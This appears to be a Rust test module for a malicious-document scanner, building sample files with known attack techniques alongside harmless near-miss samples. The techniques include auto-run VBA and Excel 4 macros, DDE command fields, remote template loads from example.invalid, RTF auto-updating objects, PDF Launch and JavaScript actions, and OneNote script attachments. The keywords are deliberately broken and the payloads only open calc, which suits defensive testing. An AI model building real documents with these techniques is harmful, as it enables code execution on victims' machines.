//! Office documents, RTF, PDF, OneNote.

use super::{Found, Near, program, text};
use crate::bytes::{Put, hex, len32};
use crate::zip::Zip;

const TYPES: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// A package (ECMA-376 part 2) with one part.
fn part(name: &str, content: &str) -> Vec<u8> {
    let types =
        b"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
    Zip::new().stored("[Content_Types].xml", types).deflated(name, &text(content)).finish()
}

fn relation(kind: &str, target: &str) -> Vec<u8> {
    let line =
        format!("<Relationship Id=\"rId1\" Type=\"{TYPES}/{kind}\" Target=\"{target}\" TargetMode=\"External\"/>");
    part("word/_rels/settings.xml.rels", &format!("<?xml version=\"1.0\"?><Relationships>{line}</Relationships>"))
}

fn module(code: &str) -> Vec<u8> {
    text(&format!("Attribute V¦B_Name = \"M\"\r\n{code}"))
}

/// MS-OLEDS 2.3.6, as Windows' packager fills it.
fn native(name: &str) -> Vec<u8> {
    let name = name.replace('¦', "");
    let mut package = Vec::new();
    package.u16(2).raw(name.as_bytes()).u8(0).raw(b"C:\\").raw(name.as_bytes()).u8(0).u16(0).u16(3);
    package.u32(5).raw(b"C:\\a\0").u32(7).raw(b"nothing");
    let mut stream = Vec::new();
    stream.u32(len32(&package)).raw(&package);
    stream
}

/// An equation (MTEF 3) with a FONT record of that name.
fn equation(name: &[u8]) -> Vec<u8> {
    let mut stream = Vec::new();
    stream.u32(0x1c).u16(2).zeros(22).raw(&[3, 1, 1, 3, 10, 10, 1, 8, 90, 90]).raw(name).u8(0);
    stream
}

/// Records of a BIFF8 workbook (MS-XLS 2.4.21, 2.4.28, 2.4.150): one sheet of `kind` in `state`, one built-in name.
fn workbook(state: u8, kind: u8, name: u8) -> Vec<u8> {
    let mut book = vec![0x09, 0x08, 0x10, 0, 0, 0x06, 0x05, 0];
    book.zeros(12).raw(&[0x85, 0, 0x0e, 0, 0, 2, 0, 0, state, kind, 6, 0]).raw(b"Sheet1");
    book.raw(&[0x18, 0, 0x17, 0, 0x20, 0, 0, 1, 7, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, name]).zeros(40);
    book
}

/// A section (MS-ONESTORE 2.3.1) with one attached file (2.6.13).
fn section(content: &[u8]) -> Vec<u8> {
    let mut file = 0xe452_5c7b_8cd8_a74d_aeb1_5378_d029_96d3_u128.to_be_bytes().to_vec();
    file.resize(1024, 0);
    file.raw(&0xe716_e3bd_6526_1145_a4c4_8d4d_0b7a_9eac_u128.to_be_bytes());
    file.u64(content.len() as u64).u32(0).u64(0).raw(content);
    file
}

fn pdf(objects: &str) -> Vec<u8> {
    text(&format!(
        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n2 0 obj\n{objects}\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    ))
}

pub(super) fn bad() -> Vec<Found> {
    let code = "Private Declare PtrSafe Function V Lib \"kern¦el32\" Alias \"Virtual¦Alloc\" ()\r\n\
        Declare Sub R Lib \"kern¦el32\" Alias \"RtlMove¦Memory\" ()\r\nDeclare Function C Lib \"kern¦el32\" Alias \"Create¦Thread\" ()\r\n";
    let field = "<w:r><w:instr¦Text xml:space=\"preserve\"> D</w:instrText></w:r><w:r><w:instrText>DE¦AUTO c:\\\\windows\\\\system¦32\\\\calc</w:instrText>";
    let ole = hex(b"Package\0");
    vec![
        (
            "Office_Macro_Starts_By_Itself_And_Runs_Program",
            module("Sub Auto¦Open()\r\n  x = She¦ll(\"calc.exe\", 0)\r\nEnd Sub\r\n"),
        ),
        ("Office_Macro_Runs_Machine_Code", module(code)),
        (
            "Office_Sheet_Macro_Runs_Program",
            part("xl/macrosheets/sheet1.xml", "<xm:macro¦sheet ><c r=\"A1\"><f>EX¦EC(\"calc\")</f></c>"),
        ),
        ("Office_Hidden_Macro_Sheet", workbook(2, 1, 1)),
        ("Office_Template_From_Network", relation("attached¦Template", "htt¦ps://example.invalid/a.dotm")),
        ("Office_Template_From_Network", relation("ole¦Object", "mht¦ml:https://example.invalid/a")),
        ("Office_Field_Runs_Command", part("word/document.xml", field)),
        (
            "Office_Field_Runs_Command",
            part("xl/externalLinks/externalLink1.xml", "<dde¦Link ddeService=\"cm¦d\" ddeTopic=\"/c calc\"/>"),
        ),
        ("Office_Text_Table_Runs_Command", text("name,sum\r\nA,=cm¦d|'/c calc'!A1\r\n")),
        ("Office_Package_Holds_Program", native("invoice.v¦bs")),
        ("Office_Equation_Overflows", equation(&[b'A'; 60])),
        ("Rtf_Object_Hidden", text("{\\rtf1{\\object{\\*\\obj¦data 0105{\\*\\abcdef 1}0000\\aa 0200}}}")),
        (
            "Rtf_Object_Hidden",
            text("{\\rtf1{\\object{\\*\\obj¦data\\bin0 }}{\\object{\\*\\obj¦data 0105{\\*\\abcdef 1}0000\\aa 0200}}}"),
        ),
        ("Rtf_Object_In_False_Header", text("{\\rt{\\object\\objemb{\\*\\obj¦data 01050000}}}")),
        (
            "Rtf_Object_Acts_At_Opening",
            text(&format!("{{\\rtf1{{\\object\\objemb\\obj¦update{{\\*\\objdata 0105000002000000{ole}}}}}}}")),
        ),
        ("Rtf_Template_From_Network", text("{\\rtf1{\\*\\temp¦late http://example.invalid/a.dotm}}")),
        ("Pdf_Starts_Program", pdf("<< /S /Lau¦nch /Win << /F (cm¦d.exe) /P (/c calc) >> >>")),
        ("Pdf_Starts_Program", pdf("<< /S /L#61un¦ch /F (a.ex¦e) >>")),
        ("Pdf_Script_Opens_Attachment", pdf("<< /JS (this.exportData¦Object({ cName: \"a\", nLaunch: 2 })) >>")),
        ("Pdf_Attaches_Program", pdf("<< /Type /Filespec /F (invoice.j¦s) /EF << >> >> << /Type /Embed¦dedFile >>")),
        ("Pdf_Asks_Foreign_Computer", pdf("<< /S /GoTo¦E /F (\\\\\\\\host.example.invalid\\\\a) >>")),
        ("Pdf_Escapes_Names", pdf("<< /S /J#61v#61Scr¦ipt /JS (1) >>")),
        ("OneNote_Attaches_Program", section(&program(b""))),
        ("OneNote_Attaches_Program", section(&text("<script>new ActiveX¦Object('WScript.Sh¦ell')</script>"))),
    ]
}

pub(super) fn good() -> Vec<Near> {
    let macros = &["Office_Macro_Starts_By_Itself_And_Runs_Program", "Office_Macro_Runs_Machine_Code"];
    let sheets = &["Office_Sheet_Macro_Runs_Program", "Office_Field_Runs_Command", "Office_Text_Table_Runs_Command"];
    let rtf =
        &["Rtf_Object_Hidden", "Rtf_Object_In_False_Header", "Rtf_Object_Acts_At_Opening", "Rtf_Template_From_Network"];
    let pdfs = &[
        "Pdf_Starts_Program",
        "Pdf_Script_Opens_Attachment",
        "Pdf_Attaches_Program",
        "Pdf_Asks_Foreign_Computer",
        "Pdf_Escapes_Names",
    ];
    let old = &["Office_Hidden_Macro_Sheet"];
    let template = &["Office_Template_From_Network"];
    let package = &["Office_Package_Holds_Program", "Office_Equation_Overflows"];
    let object = hex(b"\x01\x05\0\0\x02\0\0\0\x0b\0\0\0Word.Table\0");
    vec![
        (macros, module("Sub Total()\r\n  MsgBox Range(\"A1\").Value\r\nEnd Sub\r\n")),
        (
            macros,
            module(
                "Declare PtrSafe Function T Lib \"kernel32\" Alias \"GetTickCount\" ()\r\nSub Workbook_Open()\r\n  T\r\nEnd Sub\r\n",
            ),
        ),
        (sheets, part("xl/worksheets/sheet1.xml", "<worksheet><c><f>SUM(A1:A3)</f><v>EXEC(1) cmd</v></c></worksheet>")),
        (sheets, text("name,sum\r\n=A1+A2,-cmd\r\n\"cmd|x\",powershell\r\nw:instrText DATE\r\n")),
        (old, workbook(0, 1, 1)),
        (old, workbook(1, 0, 6)),
        (template, relation("hyperlink", "https://example.invalid/")),
        (template, relation("attachedTemplate", "file:///C:\\Templates\\letter.dotx")),
        (package, native("letter.txt")),
        (package, equation(b"Times New Roman")),
        (rtf, text(&format!("{{\\rtf1\\ansi{{\\object\\objemb{{\\*\\objdata\r\n{object}}}}}}}"))),
        (rtf, text("{\\rtf1\\ansi{\\*\\template C:\\\\Templates\\\\letter.dot}{\\info{\\title objdata}}text\\par}")),
        (
            pdfs,
            pdf(
                "<< /S /JavaScript /JS (this.print\\(\\)) >> << /Type /Action /S /URI /URI (https://example.invalid/setup.exe) >>",
            ),
        ),
        (
            pdfs,
            pdf(
                "<< /Type /Filespec /F (invoice.xml) /EF << >> >> << /Type /EmbeddedFile >> << /S /GoToR /F (part#202.pdf) /N#20ame 1 >>",
            ),
        ),
        (&["OneNote_Attaches_Program"], section(b"%PDF-1.7 letter")),
        (&["OneNote_Attaches_Program"], section(&picture_like())),
    ]
}

/// The beginning of a PNG, without more.
fn picture_like() -> Vec<u8> {
    [&b"\x89PNG\r\n\x1a\n"[..], &[0; 64]].concat()
}
